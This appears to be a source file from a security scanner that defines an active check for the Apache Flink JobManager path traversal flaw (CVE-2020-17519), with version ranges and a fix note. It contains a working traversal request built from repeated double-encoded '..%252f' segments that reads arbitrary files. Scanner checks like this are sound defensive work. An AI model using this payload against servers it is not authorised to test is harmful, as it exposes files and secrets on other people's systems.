import { fileByPath, type KnownExploited, proveKnownExploited } from '../../attacks/known-exploited.js';
import type { ActiveCheck } from '../../check.js';

export const check: ActiveCheck = {
  id: 'flink-jobmanager-traversal',
  mode: 'active',
  scope: 'host',
  places: [],
  writes: false,
  technologies: [],
  title: 'Apache Flink reads any file by the address of a log',
  severity: 'high',
  aliases: ['CVE-2020-17519', 'CWE-22'],
  cwe: 22,
  fix: 'Update Apache Flink to 1.11.3 or later.',
  references: [
    'https://www.cve.org/CVERecord?id=CVE-2020-17519',
    'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
  ],
  cost: { low: 1, medium: 1, high: 1, insane: 1 },
  attack: (target, prober) => proveKnownExploited(target, prober, known),
};

/** The name of the log is decoded once more after the path has been taken apart. */
const known: KnownExploited = {
  affected: {
    purl: /^pkg:maven\/org\.apache\.flink\/flink-(?:runtime|dist)[\w.-]*$/,
    ranges: [['1.11.0', '1.11.3']],
  },
  attempts: [
    fileByPath((file) => `/jobmanager/logs/${'..%252f'.repeat(12)}${file.replaceAll('/', '%252f')}`),
  ],
};
